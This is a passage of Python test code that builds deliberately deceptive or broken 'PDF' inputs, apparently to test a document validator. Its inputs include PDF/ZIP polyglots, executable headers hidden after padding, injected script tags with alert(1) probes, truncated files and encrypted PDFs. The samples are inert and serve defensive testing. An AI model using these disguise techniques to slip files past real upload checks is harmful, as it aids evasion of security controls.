    return associated("<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>".encode("utf-16-le"))


# Not what it says --------------------------------------------------------------------------------------


@recipe
def page_of_the_web() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


@recipe
def paper_and_archive_at_once() -> bytes:
    return honest() + b"PK\x05\x06" + bytes(18)


@recipe
def script_far_behind_the_paper() -> bytes:
    return honest() + b"x <SCRIPT>alert(1)</SCRIPT>"


@recipe
def program_behind_junk_behind_the_paper() -> bytes:
    return honest() + b".." * 50_000 + b"MZ\x90\x00" + bytes(500)


@recipe
def archive_with_a_long_tail_behind_the_paper() -> bytes:
    return honest() + b"PK\x05\x06" + bytes(18) + b"\n" * 70_000


def archive(comment: bytes = b"") -> bytes:
    """Write a ZIP archive of one program."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("setup.exe", b"MZ" + bytes(500))
        made.comment = comment
    return out.getvalue()


@recipe
def archive_in_a_stream() -> bytes:
    return paper(more=stream(archive()))


@recipe
def archive_in_a_stream_behind_an_end_that_is_none() -> bytes:
    return paper(more=stream(archive()), trailer=b"/X(PK\x05\x06" + b"\x01" * 18 + b")")


@recipe
def archive_without_entries_in_a_stream() -> bytes:
    return paper(more=stream(b"PK\x05\x06" + bytes(18)))


@recipe
def archive_whose_comment_is_the_paper() -> bytes:
    return b"%PDF-1.7\n" + archive(honest()) + b"\n"


@recipe
def web_page_in_a_remark_at_the_head() -> bytes:
    remark = b"%<!DOCTYPE html><html><script>alert(1)</script><!--\n"
    objects = {1: CATALOGUE, 2: PAGES, 3: PAGE, 4: stream(b"BT ET")}
    return written(objects, head=b"%PDF-1.7\n" + remark)


@recipe
def archive_before_the_paper() -> bytes:
    return b"PK\x03\x04" + bytes(26) + honest()


@recipe
def web_page_before_the_paper() -> bytes:
    return b"<html><body>" + honest()


@recipe
def program_named_paper() -> bytes:
    return b"MZ\x90\x00" + bytes(4000)


@recipe
def picture_named_paper() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(200)


@recipe
def only_a_head() -> bytes:
    return b"%PDF-1.7\n"


@recipe
def cut_in_the_middle() -> bytes:
    whole = honest()
    return whole[: len(whole) // 2]


@recipe
def cut_before_the_end() -> bytes:
    return honest()[:-8]


@recipe
def zeros() -> bytes:
    return bytes(100_000)


@recipe
def locked_with_a_password() -> bytes:
    made = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(made, encryption=pikepdf.Encryption(owner="o", user="u"))
    return made.getvalue()


@recipe
def locked_without_a_password() -> bytes:
    made = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(made, encryption=pikepdf.Encryption(owner="o", user=""))
    return made.getvalue()


@recipe
def locked_by_an_unknown_lock() -> bytes:
    return paper(trailer=b"/Encrypt<</Filter/Nobody/V 99/R 99/O()/U()/P 0>>/ID[()()]")
